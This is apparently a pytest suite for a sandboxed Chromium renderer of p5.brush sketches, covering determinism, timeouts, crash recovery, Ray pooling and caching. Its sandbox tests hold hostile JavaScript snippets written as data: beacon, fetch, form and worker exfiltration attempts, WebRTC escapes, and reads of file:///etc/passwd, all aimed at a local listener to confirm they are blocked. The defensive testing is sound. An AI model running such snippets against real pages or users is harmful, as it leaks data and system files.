"""Render stage with the real parts: Debian Chromium, p5 + p5.brush from js/node_modules, local Ray.

Run: .venv/bin/python -m pytest tests/test_render.py -x -q -s   (-s shows the measured numbers)
"""

from __future__ import annotations

import io
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
import ray
from PIL import Image

from brushrl.config import RenderConfig
from brushrl.render import Renderer, find_js_dir, paint_fraction
from brushrl.render.bench import HEAVY, SKELETON, pixel_diff
from brushrl.render.pool import RenderPool
from brushrl.ray_setup import start_local_ray
from brushrl.types import RenderResult

SIZE = 600

RANDOM_SHAPES = """async function setup() { createCanvas(600, 600, WEBGL); brush.scaleBrushes(3); noLoop(); }
function draw() {
  translate(-width / 2, -height / 2); background("#fdf8ee"); brush.noStroke();
  for (let i = 0; i < 3; i++) {
    brush.fill("#3a6ea5", 220); brush.beginShape(0.2);
    const x = random(80, 520), y = random(80, 520);
    brush.vertex(x - 60, y - 60); brush.vertex(x + 60, y - 60); brush.vertex(x + 60, y + 60); brush.vertex(x - 60, y + 60);
    brush.endShape(true);
  }
}
"""
BLANK = """async function setup() { createCanvas(600, 600, WEBGL); noLoop(); }
function draw() { background("#fdf8ee"); }
"""


def background_sketch(hex_colour: str) -> str:
    return BLANK.replace("#fdf8ee", hex_colour)


def rgb_at_centre(png: bytes) -> tuple[int, int, int]:
    im = Image.open(io.BytesIO(png)).convert("RGB")
    return im.getpixel((im.width // 2, im.height // 2))


@pytest.fixture(scope="module")
def renderer():
    r = Renderer()
    yield r
    r.close()


def ok(result):
    assert result.status == "ok", (result.status, result.js_errors, result.detail, result.console)
    return result


# ---------------------------------------------------------------------------------------- paint


def _png(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(arr).save(buf, format="PNG")
    return buf.getvalue()


def test_paint_fraction_counts_pixels_far_from_the_modal_colour():
    img = np.full((100, 100, 3), 250, np.uint8)
    img[10:20, 10:30] = (200, 40, 40)  # 200 px of paint
    img[50:60, 50:60] = (240, 240, 240)  # 100 px within 32 of the background: not paint
    assert paint_fraction(_png(img)) == pytest.approx(0.02)
    wash = np.zeros((50, 50, 3), np.uint8) + np.array([30, 90, 160], np.uint8)  # a full-canvas wash
    assert paint_fraction(_png(wash)) == 0.0
    rgba = np.zeros((10, 10, 4), np.uint8)  # transparent -> white after compositing
    rgba[:5, :, :] = (0, 0, 0, 255)
    rgba[5:8, :, :] = (0, 0, 0, 255)  # 80 black pixels: black is the mode, the 20 white are paint
    assert paint_fraction(_png(rgba)) == pytest.approx(0.2)


# ------------------------------------------------------------------------------------- renderer


def test_skeleton_renders_a_size_by_size_painting(renderer):
    res = ok(renderer.render(SKELETON, 7, SIZE, 60, 1))
    im = Image.open(io.BytesIO(res.png))
    assert im.size == (SIZE, SIZE)
    assert 0.02 < res.paint_fraction < 0.5  # one petal-sized shape
    assert rgb_at_centre(res.png) != (253, 248, 238)  # paint where the shape is
    assert 0 < res.draw_s <= res.wall_s
    assert res.js_errors == [] and res.refused == [] and res.attempts == 1 and res.actor_id == "local"
    # the wall time is accounted for by phases, in page order; the in-page drawing is inside "sketch"
    # (render.mode replay: the record page's, the log's validation, then the replay page's, which draws)
    assert list(res.phases) == ["page", "load", "sketch", "close", "validate", "replay_page", "replay_load",
                                "replay_sketch", "replay_close", "decode"] and min(res.phases.values()) >= 0
    assert res.draw_s <= res.phases["replay_sketch"] and sum(res.phases.values()) <= res.wall_s
    print(f"\nskeleton 600x600: wall {res.wall_s:.2f} s, draw {res.draw_s:.2f} s, paint {res.paint_fraction:.4f}")


def test_same_code_and_seed_give_the_same_painting(renderer):
    a = ok(renderer.render(HEAVY, 7, SIZE, 60, 1))
    b = ok(renderer.render(HEAVY, 7, SIZE, 60, 1))
    frac, max_diff = pixel_diff(a.png, b.png)
    print(f"\nswiftshader same seed: {frac:.5%} pixels differ, max channel diff {max_diff}; walls {a.wall_s:.2f} / {b.wall_s:.2f} s")
    assert frac < 0.005
    assert abs(a.paint_fraction - b.paint_fraction) < 0.005


def test_llvmpipe_is_pixel_exact_across_browsers():
    pngs = []
    for _ in range(2):
        with Renderer(gl_backend="llvmpipe") as r:
            pngs.append(ok(r.render(SKELETON, 7, SIZE, 60, 1)).png)
    frac, max_diff = pixel_diff(*pngs)
    print(f"\nllvmpipe same seed, two browsers: {frac:.5%} pixels differ, max channel diff {max_diff}")
    assert (frac, max_diff) == (0.0, 0)


def test_different_seed_gives_a_different_painting(renderer):
    a = ok(renderer.render(RANDOM_SHAPES, 1, SIZE, 60, 1))
    b = ok(renderer.render(RANDOM_SHAPES, 2, SIZE, 60, 1))
    frac, _ = pixel_diff(a.png, b.png)
    print(f"\nseed 1 vs 2: {frac:.2%} pixels differ")
    assert frac > 0.05


#: Shapes at fixed places: only p5.brush's own PRNGs (fill bleed, texture) depend on the seed.
BRUSH_ONLY = """async function setup() { createCanvas(600, 600, WEBGL); noLoop(); }
function draw() {
  translate(-width / 2, -height / 2); background("#fdf8ee"); brush.noStroke();
  brush.fill("#b8336a", 160); brush.fillBleed(0.3); brush.fillTexture(0.6, 0.4);
  brush.rect(150, 150, 300, 300);
}
"""


def test_a_spare_page_paints_what_a_new_page_paints_and_p5_brush_follows_the_seed():
    """The spare page loads p5 and p5.brush before its seed is known, so the harness re-seeds
    p5.brush's PRNGs when the sketch arrives: the painting must be the one a page opened for that
    sketch makes (llvmpipe: pixel-exact), and p5.brush's own randomness must follow the seed."""
    with Renderer(gl_backend="llvmpipe") as warm, Renderer(gl_backend="llvmpipe", spare_page=False) as cold:
        ok(warm.render(SKELETON, 3, SIZE, 60, 1))
        # the next render takes the spares (a record page and a replay page)
        assert set(warm._spares) == {"record", "replay"} and cold._spares == {}
        pngs = {}
        for seed in (1, 2):
            for name, r in (("spare", warm), ("new page", cold)):
                pngs[name, seed] = ok(r.render(BRUSH_ONLY, seed, SIZE, 60, 1)).png
            assert pixel_diff(pngs["spare", seed], pngs["new page", seed]) == (0.0, 0)
    frac, _ = pixel_diff(pngs["spare", 1], pngs["spare", 2])
    print(f"\np5.brush only, seed 1 vs 2: {frac:.2%} pixels differ")
    assert frac > 0.001


def test_syntax_error_is_a_sketch_error_with_its_line(renderer):
    res = renderer.render("async function setup() {\n  createCanvas(600, 600, WEBGL);\n  let x = ;\n}\n", 0, SIZE, 30, 2)
    assert res.status == "error" and res.png is None and res.attempts == 1
    assert "SyntaxError" in res.js_errors[0] and "sketch.js:3:" in res.js_errors[0]


def test_throw_in_draw_is_a_sketch_error(renderer):
    code = SKELETON.replace("brush.endShape(true); }", "brush.endShape(true);\n throw new Error('boom'); }")
    res = renderer.render(code, 0, SIZE, 30, 2)
    assert res.status == "error" and res.attempts == 1
    assert "boom" in res.js_errors[0] and "sketch.js:3" in res.js_errors[0]


def test_blank_sketch_is_ok_with_no_paint(renderer):
    res = ok(renderer.render(BLANK, 0, SIZE, 30, 1))
    assert res.paint_fraction < 0.005
    assert rgb_at_centre(res.png) == (253, 248, 238)


def test_looping_sketch_is_stopped_after_its_first_frame(renderer):
    # p5 2.3 defers the first frame to requestAnimationFrame when setup ended less than a frame
    # interval before; that callback has no library frame on its stack, so the harness once refused
    # it as the sketch's call (forbidden p5._draw, a timeout) in about half the renders of this
    # sketch (CI, stop 28). The harness makes the first frame due at once: every render draws it.
    code = "function setup() { createCanvas(600, 600, WEBGL); }\nfunction draw() { background(frameCount * 40, 0, 0); }"
    for _ in range(4):
        res = ok(renderer.render(code, 0, SIZE, 30, 1))
        assert res.forbidden == {}
        assert rgb_at_centre(res.png) == (40, 0, 0)  # frame 1 exactly


def test_runaway_sketch_times_out_and_the_renderer_recovers(renderer):
    # The deadline covers page setup and p5's load (~0.7 s quiet, up to ~2.7 s loaded): a try that
    # never reaches the sketch is infra, not timeout, so the deadlines leave room for that.
    deadline, attempts = 6.0, 2
    t = time.monotonic()
    res = renderer.render(SKELETON.replace("noLoop(); }", "noLoop(); while (true) {} }"), 0, SIZE, deadline, attempts)
    took = time.monotonic() - t
    print(f"\nwhile(true): {res.status} after {took:.2f} s (deadline {deadline} s x {attempts})")
    assert res.status == "timeout" and res.attempts == attempts
    assert took < deadline * attempts + 20  # two page setups and a relaunch, on a loaded machine
    never = renderer.render("async function setup() { createCanvas(600, 600, WEBGL); await new Promise(() => {}); }", 0, SIZE, 8.0, 1)
    assert never.status == "timeout"
    top_level = renderer.render("while (true) {}\n" + SKELETON, 0, SIZE, 8.0, 1)  # before setup exists
    assert top_level.status == "timeout"
    ok(renderer.render(BLANK, 0, SIZE, 30, 1))


def test_network_is_refused_and_recorded(renderer):
    from conftest import Listener

    lis = Listener()
    hits = lis.hits
    port = uport = int(lis.addr.rsplit(":", 1)[1])
    # Each attempt is refused by the first layer that sees it: the page's harness (fetch, image
    # elements, frames: RenderResult.forbidden), the CSP (WebSocket) or the route (an Image's src).
    code = f"""async function setup() {{
  createCanvas(600, 600, WEBGL);
  try {{ fetch('http://127.0.0.1:{port}/steal').catch(() => {{}}); }} catch (e) {{}}
  try {{ new WebSocket('ws://127.0.0.1:{port}/'); }} catch (e) {{}}
  try {{ new Image().src = 'http://127.0.0.1:{port}/img.png'; }} catch (e) {{}}
  try {{ const img = document.createElement('img'); img.src = '/local.png'; document.body.appendChild(img); }} catch (e) {{}}
  try {{  // WebRTC via a fresh realm
    const f = document.createElement('iframe'); document.body.appendChild(f);
    const pc = new f.contentWindow.RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{uport}' }}] }});
    pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer());
  }} catch (e) {{ console.log('no frame: ' + e.message); }}
  console.log('top-level RTCPeerConnection: ' + typeof RTCPeerConnection);
  await new Promise((r) => setTimeout(r, 2000));
  noLoop();
}}
function draw() {{ background(255); }}
"""
    try:
        res = ok(renderer.render(code, 0, SIZE, 30, 1))
        assert lis.settle() == []
    finally:
        lis.close()
    print("\nrefused:", *res.refused, "forbidden:", *res.forbidden, sep="\n  ")
    assert res.forbidden["window.fetch"] == 1
    assert any("connect-src" in r and "ws://127.0.0.1" in r for r in res.refused), res.refused
    assert res.forbidden["HTMLImageElement.src="] == 1 and res.forbidden["Document.createElement"] == 2
    assert any(line.startswith("log: no frame: ") for line in res.console), res.console
    assert "log: top-level RTCPeerConnection: undefined" in res.console


def test_deadline_before_the_sketch_starts_is_infra_not_the_sketchs_fault():
    # 50 ms is too short to open a page and load p5 (a renderer without a spare page, which would
    # have p5 loaded already): the sketch never ran, so it must not be scored as a timeout.
    with Renderer(spare_page=False) as renderer:
        res = renderer.render(HEAVY, 0, SIZE, 0.05, 1)
        assert res.status == "infra" and "never reached the sketch" in res.detail
        assert res.attempts == 2 and res.wall_s < 30  # retried once in a relaunched browser
        ok(renderer.render(BLANK, 0, SIZE, 30, 1))


def test_a_driver_call_that_never_returns_kills_the_browser_and_is_infra(monkeypatch):
    """A Playwright call with no timeout that the browser never answers (here a DevTools send
    awaiting a promise that never settles) is cut by the hang guard:
    the browser is killed, the attempt is ``infra`` (retried once in a relaunched browser, which
    hangs too), and the renderer paints the next sketch."""
    import brushrl.render.browser as B
    from brushrl.render.page import SketchPage

    deliver = SketchPage.deliver
    monkeypatch.setattr(B, "HANG_GRACE_S", 1.0)
    with Renderer(spare_page=False) as renderer:
        monkeypatch.setattr(SketchPage, "deliver",
                            lambda self, *a: self._cdp.send("Runtime.evaluate", {
                                "expression": "new Promise(() => {})", "awaitPromise": True}))
        res = renderer.render(BLANK, 0, SIZE, 5, 1)
        assert res.status == "infra" and res.detail.startswith("browser hung"), res.detail
        assert res.attempts == 2
        monkeypatch.setattr(SketchPage, "deliver", deliver)
        ok(renderer.render(BLANK, 0, SIZE, 30, 1))


def test_the_report_channel_takes_only_the_harnesss_bounded_json_from_its_own_context(renderer):
    """Reports reach the driver as strings over a DevTools binding: the first pins the harness's
    execution context; one from another context, longer than the cap, not JSON, nested past
    Python's recursion limit or not an object is refused unparsed and never becomes an event."""
    from brushrl.render.harness import MAX_REPORT_CHARS
    from brushrl.render.page import SketchPage

    page = SketchPage(renderer._browser, renderer._assets, SIZE, timeout_ms=30_000)
    try:
        page.deliver(BLANK, 0)
        deadline = time.monotonic() + 60
        while not page.done() and time.monotonic() < deadline:
            page.page.wait_for_timeout(50)
        assert page.done() is not None and page.refused == []
        name, world = page._binding, page._world
        assert world is not None
        events = list(page.events)
        for payload, ctx, why in [
            ('{"phase": "done"}', world + 1, "another execution context"),
            ("x" * (MAX_REPORT_CHARS + 1), world, "characters (cap"),
            ("{not json", world, "malformed"),
            ("[" * 100_000 + "]" * 100_000, world, "malformed"),
            ("[1, 2]", world, "not an object"),
        ]:
            page._report({"name": name, "payload": payload, "executionContextId": ctx})
            assert why in page.refused[-1], (why, page.refused[-1][:120])
        assert page.events == events
    finally:
        page.close()


def test_a_replay_page_that_crashes_twice_is_the_sketchs_error_not_infra():
    """The second-crash rule reads through the replay's ``replay: `` prefix: a replayed log that
    kills its page twice (its program is the sketch's) is not an infrastructure failure."""
    from brushrl.render.browser import _CRASH, _crashed

    assert _crashed(RenderResult("infra", detail=f"replay: {_CRASH}: Target crashed"))
    assert _crashed(RenderResult("infra", detail=f"{_CRASH}: Target crashed"))
    assert not _crashed(RenderResult("infra", detail="replay: playwright error: gone"))


def _descendants(pid: int, skip: set[int] = frozenset()) -> set[int]:
    """Processes below ``pid`` (from /proc), not entering the subtrees of ``skip``."""
    children: dict[int, list[int]] = {}
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                ppid = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(d.name))
    out, todo = set(), [pid]
    while todo:
        for c in children.get(todo.pop(), []):
            if c not in skip:
                out.add(c)
                todo.append(c)
    return out


def _gone_within(pids: set[int], seconds: float) -> list[int]:
    """PIDs still present (zombies included) after waiting up to ``seconds``."""
    end = time.monotonic() + seconds
    while (alive := [p for p in pids if Path(f"/proc/{p}").exists()]) and time.monotonic() < end:
        time.sleep(0.1)
    return alive


def test_close_leaves_no_processes():
    # In a thread of its own the renderer gets its own Playwright driver, so every process it
    # starts is below that driver and none belongs to the module's renderer.
    before = _descendants(os.getpid())
    spawned: set[int] = set()

    def work():
        r = Renderer()
        spawned.update(_descendants(os.getpid(), skip=before))
        r.close()
        r.close()  # idempotent

    t = threading.Thread(target=work)
    t.start()
    t.join(60)
    assert len(spawned) >= 2  # the Playwright driver and Chromium's processes
    assert _gone_within(spawned, 30) == []  # zombies included


def test_killed_playwright_driver_is_replaced_and_the_render_retried():
    # A dying Ray actor loses its child processes first (Ray kills them), and an OOM kill can take
    # the driver alone: the renderer must start a new driver, not report infra forever.
    before = _descendants(os.getpid())
    out: dict = {}

    def work():
        r = Renderer()
        try:
            driver = [p for p in _descendants(os.getpid(), skip=before)
                      if Path(f"/proc/{p}/comm").read_bytes().startswith(b"node")]
            out["driver"] = driver
            for p in driver:
                os.kill(p, 9)
            out["res"] = r.render(BLANK, 0, SIZE, 30, 1)
            out["again"] = r.render(BLANK, 1, SIZE, 30, 1)
        finally:
            r.close()

    t = threading.Thread(target=work)
    t.start()
    t.join(120)
    assert len(out["driver"]) == 1
    res = ok(out["res"])
    assert res.attempts == 2  # the failed attempt (infra: connection closed) + one with a new driver
    ok(out["again"])


def _argv(pid: int) -> list[bytes]:
    try:  # zygote children rewrite their title into one space-separated string
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").split()
    except OSError:
        return []


def _chromium(kind: str) -> list[int]:
    """PIDs of the Chromium processes of this process's browsers: ``browser`` (main) or a
    ``--type=`` value. Zygote-forked children (renderers) are re-parented to init, so they are
    matched by the browser's ``--user-data-dir`` instead of by ancestry."""
    browsers = [p for p in _descendants(os.getpid()) if _argv(p)[:1] == [b"/usr/lib/chromium/chromium"]
                and not any(a.startswith(b"--type=") for a in _argv(p))]
    if kind == "browser":
        return browsers
    dirs = {a for p in browsers for a in _argv(p) if a.startswith(b"--user-data-dir=")}
    return [int(d.name) for d in Path("/proc").iterdir() if d.name.isdigit()
            and f"--type={kind}".encode() in (argv := _argv(int(d.name))) and dirs & set(argv)]


SLOW = "async function setup() { createCanvas(600, 600, WEBGL); await new Promise((r) => setTimeout(r, 5000)); noLoop(); }"


@pytest.mark.parametrize("kind", ["browser", "renderer"])
def test_killed_chromium_is_relaunched_and_the_render_retried(renderer, kind):
    ok(renderer.render(BLANK, 0, SIZE, 30, 1))  # the module's browser is the only one alive
    victims: list[int] = []

    def kill():
        # 2 s into the render: the page has committed (0.3-1.4 s, quiet to loaded) and waits 5 s in
        # setup, so its renderer is among the browser's renderers now (a spare one may be too).
        # Waiting for a *new* renderer process instead found Chromium's next spare, not the page's.
        victims.extend(_chromium(kind))
        for p in victims:
            os.kill(p, 9)

    killer = threading.Timer(2.0, kill)
    killer.start()
    res = ok(renderer.render(SLOW, 0, SIZE, 30, 1))
    killer.join()
    assert victims
    assert res.attempts == 2  # the failed attempt (infra) + the retry in a relaunched browser
    assert _gone_within(set(victims), 30) == []


def test_missing_js_dir_says_how_to_install(monkeypatch, tmp_path):
    monkeypatch.setenv("BRUSHRL_JS_DIR", str(tmp_path))
    with pytest.raises(FileNotFoundError, match="npm ci --prefix js"):
        find_js_dir()
    monkeypatch.delenv("BRUSHRL_JS_DIR")
    assert (find_js_dir() / "node_modules/p5.brush").is_dir()


def test_cli_renders_and_prints_one_json_object(tmp_path):
    sketch, out = tmp_path / "s.js", tmp_path / "s.png"
    sketch.write_text(SKELETON)
    cmd = [sys.executable, "-m", "brushrl.cli", "render", str(sketch), "--seed", "3", "--out", str(out), "--json"]
    proc = subprocess.run(cmd, check=False, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    record = json.loads(proc.stdout)
    assert record["verdict"] == "pass" and record["png"] == str(out) and record["paint_fraction"] > 0.02
    assert record["brush_calls"]["vertex"] == 4 and record["cpu_s"] > 0 and record["actor_id"] == "local"
    assert record["static_gate"] == "pass" and record["stage"] == "runtime"
    assert record["text"] == []  # render.text_scan (on by default) read the painting: no words
    assert Image.open(out).size == (SIZE, SIZE)
    # The static gate rejects nope() (disallowed_global): --no-gate renders it anyway and says so.
    sketch.write_text("function setup() { createCanvas(600, 600, WEBGL); nope(); }")
    proc = subprocess.run([*cmd, "--no-gate"], check=False, capture_output=True, text=True, timeout=120)
    record = json.loads(proc.stdout)
    assert proc.returncode == 1 and record["verdict"] == "render_error" and record["png"] is None
    assert "nope is not defined" in record["js_errors"][0] and record["static_gate"] == "skipped (--no-gate)"


def test_cli_gives_the_pipelines_verdict_on_a_sketch_the_static_gate_rejects(tmp_path):
    """A sketch that calls fetch is external_access, as in training (and `brushrl gate`): not rendered."""
    sketch = Path(__file__).parent / "fixtures" / "gate" / "ext_fetch.js"
    cmd = [sys.executable, "-m", "brushrl.cli", "render", str(sketch)]
    proc = subprocess.run([*cmd, "--json"], check=False, capture_output=True, text=True, timeout=120)
    record = json.loads(proc.stdout)
    assert proc.returncode == 1 and record["verdict"] == "external_access" and record["stage"] == "static"
    assert "fetch" in record["gate_detail"] and record["status"] is None and record["png"] is None
    proc = subprocess.run(cmd, check=False, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and proc.stdout.startswith("external_access (static gate): not rendered")
    proc = subprocess.run([*cmd, "--no-gate"], check=False, capture_output=True, text=True, timeout=120)
    assert "static gate skipped: --no-gate" in proc.stdout and "not rendered" not in proc.stdout


# ---------------------------------------------------------------------------------------- pool


@pytest.fixture(scope="module")
def pool():
    start_local_ray(num_cpus=4, log_to_driver=False)
    p = RenderPool(RenderConfig(num_actors=2, num_cpus=0.5, deadline_s=30, attempts=1))
    p.ping()
    yield p
    p.shutdown()
    ray.shutdown()


def test_pool_renders_jobs_in_order_across_actors(pool):
    colours = ["#ff0000", "#00ff00", "#0000ff", "#ffff00"]
    progress: list[tuple[int, int]] = []
    pool.on_progress = lambda waiting, rendering: progress.append((waiting, rendering))
    t = time.monotonic()
    try:
        results = pool.render_many([(background_sketch(c), i) for i, c in enumerate(colours)])
    finally:
        pool.on_progress = None
    print(f"\npool: 4 blank jobs on 2 actors in {time.monotonic() - t:.2f} s")
    for res, c in zip(results, colours):
        ok(res)
        assert rgb_at_centre(res.png) == tuple(int(c[i : i + 2], 16) for i in (1, 3, 5))
    assert {r.actor_id for r in results} == {p["actor_id"] for p in pool.ping()}
    # telemetry: one page per actor, so two jobs wait while two render; all done at the end
    assert max(w for w, _ in progress) == 2 and max(r for _, r in progress) == 2 and progress[-1] == (0, 0)


def test_pool_retries_a_job_whose_actor_died(pool):
    slow = "async function setup() { createCanvas(600, 600, WEBGL); await new Promise((r) => setTimeout(r, 3000)); noLoop(); }"
    victim = pool.ping()[0]
    browsers = _descendants(victim["pid"])
    assert browsers  # the actor's Playwright driver and Chromium
    killer = threading.Timer(1.0, lambda: ray.kill(pool.actors[0], no_restart=False))
    killer.start()
    results = pool.render_many([(slow, 0), (BLANK, 1)])
    killer.join()
    # a dying actor may answer infra (Ray kills its Playwright driver before it) instead of raising
    assert [r.status for r in results] == ["ok", "ok"], [(r.status, r.detail) for r in results]
    assert results[0].actor_id != victim["actor_id"]  # served by the other actor
    after = pool.ping()  # Ray restarted the killed actor
    assert after[0]["actor_id"] == victim["actor_id"] and after[0]["pid"] != victim["pid"]
    assert _gone_within(browsers, 30) == []  # its Chromium went with it


def test_pool_retries_an_infra_answer_on_the_other_actor(pool):
    # An actor that answers infra (here: a 50 ms deadline, p5 never loads; no spare page, which
    # would have it loaded) is not trusted with the job's fate: the job goes to the other actor,
    # and only its second infra is the result.
    fast = RenderPool(RenderConfig(num_actors=2, num_cpus=0.5, deadline_s=0.05, attempts=1, cache_entries=0,
                                   spare_page=False))
    try:
        seen: list = []
        (res,) = fast.render_many([(HEAVY, 0)], on_result=lambda i, r: seen.append(i))
    finally:
        fast.shutdown()
    assert res.status == "infra" and res.detail.startswith("render failed on 2 actors")
    assert "infra from actor" in res.detail and "never reached the sketch" in res.detail
    assert seen == [0]  # reported once, when final


def test_benchmark_reports_every_figure_for_each_pool_size(pool, tmp_path):
    # Not a timed test: it checks that the benchmark measures what it claims, on real renders.
    from brushrl.perf.render_benchmark import print_report, run_benchmark

    seen: list[tuple[int, int]] = []
    report = run_benchmark(RenderConfig(num_cpus=0.5, deadline_s=240, attempts=1), [1, 2], sketches=2, repeats=2,
                           on_render=lambda d, t: seen.append((d, t)))
    assert report["sketches"] == ["corpus/peach_hibiscus", "skeleton"]
    assert seen[-1] == (8, 8)
    for n in ("1", "2"):
        s = report["pools"][n]
        assert s["ok"] == s["renders"] == 4
        assert 0 < s["draw_p50_s"] <= s["wall_p50_s"] <= s["wall_p95_s"]
        assert 0 < s["overhead_share"] < 1 and 0 < s["fixed_p50_s"] < s["wall_p50_s"]
        assert s["cpu_s_mean"] > 0.1  # Chromium's processes did the drawing
        assert s["peak_rss_mb_per_actor"] > 50 and s["renders_per_min"] > 0
        # sketch is timed on the page's clock around draw_s (CI once saw 0.12 s vs 0.48 s when it
        # was split by report arrival times on a loaded machine).
        # (render.mode replay: the replay page draws)
        assert s["phase_p50_s"]["replay_sketch"] >= s["draw_p50_s"] and s["phase_p50_s"]["page"] > 0
        assert all(r["phases"]["replay_sketch"] >= r["draw_s"] for r in report["renders"] if r["actors"] == int(n))
    assert report["pools"]["2"]["actors_seen"] == 2
    det = report["determinism"]
    assert det["all"]["renders"] == 8 and det["skeleton"]["renders"] == 4
    assert det["all"]["diff_pixels"] < 0.005 and det["all"]["reward_delta"] < 0.01  # llvmpipe: exact
    print_report(report)
    json.dumps(report)  # serialisable as written by the CLI


def test_benchmark_refuses_a_sketch_filter_that_matches_nothing(capsys):
    import argparse

    from brushrl.perf.render_benchmark import add_arguments, run

    p = argparse.ArgumentParser()
    add_arguments(p)
    assert run(p.parse_args(["--match", "tulip"])) == 2
    assert "--match: no benchmark sketch name contains 'tulip'" in capsys.readouterr().err


# ---------------------------------------------------------------------------------------- cache


def test_render_cache_keeps_ok_and_error_in_an_lru_with_a_disk_tier(tmp_path):
    from brushrl.render.cache import RenderCache, render_key
    from brushrl.types import RenderResult

    env = "p5+brush:abc chromium:1 gl:llvmpipe"
    key = [render_key(f"code{i}", 1, SIZE, env) for i in range(4)]
    assert len({*key, render_key("code0", 2, SIZE, env), render_key("code0", 1, 512, env),
                render_key("code0", 1, SIZE, env.replace("gl:llvmpipe", "gl:swiftshader"))}) == 7
    png = _png(np.full((8, 8, 3), 200, np.uint8))
    cache = RenderCache(max_entries=2, disk_dir=tmp_path / "c")
    assert cache.put(key[0], RenderResult("ok", png=png, wall_s=3.0, cpu_s=2.0, paint_fraction=0.5, brush_calls={"fill": 2}))
    assert cache.put(key[1], RenderResult("error", js_errors=["boom"], wall_s=1.0))
    assert not cache.put(key[2], RenderResult("timeout", wall_s=30.0))  # may be the machine's load
    assert not cache.put(key[3], RenderResult("infra"))  # never the sketch's
    assert cache.get(key[2]) is None and cache.get(key[3]) is None
    hit = cache.get(key[0])
    assert hit.cache_hit and hit.png == png and hit.wall_s == 0.0 and hit.cpu_s == 0.0 and hit.attempts == 0
    assert hit.paint_fraction == 0.5 and hit.brush_calls == {"fill": 2}
    assert cache.get(key[1]).js_errors == ["boom"]
    assert cache.stats() == {"hits": 2, "misses": 2, "hit_rate": 0.5, "entries": 2}
    # A fresh cache on the same folder (a restart) finds both on disk; memory holds at most 2.
    again = RenderCache(max_entries=1, disk_dir=tmp_path / "c")
    assert again.get(key[0]).png == png and again.get(key[1]).status == "error"
    assert again.stats()["entries"] == 1
    assert RenderCache(max_entries=4).get(key[0]) is None  # memory only: nothing shared


def test_pool_cache_renders_identical_jobs_once(pool):
    code = background_sketch("#123456")
    before = dict(pool.cache.stats())
    first = pool.render_many([(code, 5), (code, 5), (code, 6)])
    assert [r.cache_hit for r in first] == [False, True, False]
    assert first[1].png == first[0].png and first[1].wall_s == 0.0 and first[0].wall_s > 0
    second = pool.render_many([(code, 5), (code, 6)])
    assert all(r.cache_hit for r in second) and second[1].png == first[2].png
    after = pool.cache.stats()
    assert after["hits"] - before["hits"] == 3 and after["misses"] - before["misses"] == 2
    assert "p5+brush:" in pool.ping()[0]["env"] and "gl:llvmpipe" in pool.ping()[0]["env"]


# -------------------------------------------------------------------------------------- sandbox


@pytest.fixture(scope="module")
def listener():
    """A TCP and a UDP socket on 127.0.0.1 recording every connection / datagram (conftest)."""
    from conftest import Listener

    lis = Listener()
    yield lis
    lis.close()


#: One hostile sketch per sandbox rule: (setup body with {u} = the listener's host:port, text that
#: must appear in ``refused`` or among the names in ``forbidden``, expected status). The page's
#: harness refuses what it wraps (window functions, the DOM, navigation); what it does not wrap
#: reaches the CSP or the route.
HOSTILE = {
    "event_source": ("new EventSource('http://{u}/es')", "connect-src", "ok"),
    "send_beacon": ("navigator.sendBeacon('http://{u}/beacon', 'secret')", "http://{u}/beacon", "ok"),
    "blob_worker": ("new Worker(URL.createObjectURL(new Blob(['fetch(\"http://{u}/w\")'])))", "worker-src", "ok"),
    "shared_worker": ("try {{ new SharedWorker('/sw.js') }} catch (e) {{}}", "worker-src", "ok"),
    "popup": ("window.open('http://{u}/popup')", "window.open", "ok"),
    "dialogs": ("alert('a'); confirm('b'); prompt('c')", "window.prompt", "ok"),
    "download": ("try {{ const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; "
                 "document.body.appendChild(a); a.click() }} catch (e) {{}}", "Document.createElement", "ok"),
    "file_read": ("try {{ fetch('file:///etc/passwd') }} catch (e) {{}} const x = new XMLHttpRequest(); "
                  "try {{ x.open('GET', 'file:///etc/hostname'); x.send(); }} catch (e) {{}}", "window.fetch", "ok"),
    "form_post": ("try {{ const f = document.createElement('form'); f.action = 'http://{u}/form'; f.method = 'post'; "
                  "document.body.appendChild(f); f.submit() }} catch (e) {{}}", "Document.createElement", "ok"),
    # never finishes on its own: the refused navigation ends it at once (else: timeout after 90 s)
    "navigate_away": ("location.href = 'http://{u}/nav'; await new Promise(() => {{}})", "navigation:http://{u}/nav", "ok"),
}


@pytest.mark.parametrize("rule", sorted(HOSTILE))
def test_hostile_sketch_is_refused_recorded_and_nothing_gets_out(renderer, listener, rule):
    addr = listener.addr
    body, expect, status = HOSTILE[rule]
    code = ("async function setup() { createCanvas(600, 600, WEBGL); " + body.format(u=addr) +
            "; await new Promise((r) => setTimeout(r, 2000)); noLoop(); }\nfunction draw() { background(200); }")
    listener.hits.clear()
    res = renderer.render(code, 0, SIZE, 90, 1)
    assert res.status == status, (res.status, res.js_errors, res.detail)
    assert any(expect.format(u=addr) in r for r in [*res.refused, *res.forbidden]), (res.refused, res.forbidden)
    assert listener.settle() == []  # not even a TCP handshake (a navigation's preconnect did reach it without netns)
    assert renderer.netns  # this machine has user namespaces; without them the preconnect leaks


def test_page_over_the_memory_cap_is_killed_and_the_browser_lives_on():
    with Renderer(gl_backend="llvmpipe", memory_cap_mb=512) as r:
        browser_pid = r.procs.browser.pid
        buffers = "async function setup() { createCanvas(600, 600, WEBGL); const a = []; while (true) a.push(new Uint8Array(32e6).fill(1)); }"
        res = r.render(buffers, 0, SIZE, 60, 1)
        assert res.status == "error" and res.js_errors[0].startswith("memory cap") and res.attempts == 1
        assert any(x.startswith("memory ") for x in res.refused)
        assert r.procs.browser.pid == browser_pid and r.procs.browser.is_running()  # same browser
        ok(r.render(BLANK, 0, SIZE, 30, 1))
        heap = "async function setup() { createCanvas(600, 600, WEBGL); const a = []; while (true) a.push(new Array(1e6).fill(Math.random())); }"
        res = r.render(heap, 0, SIZE, 60, 1)  # V8 heap: --max-old-space-size (cap/2) or the RSS watch
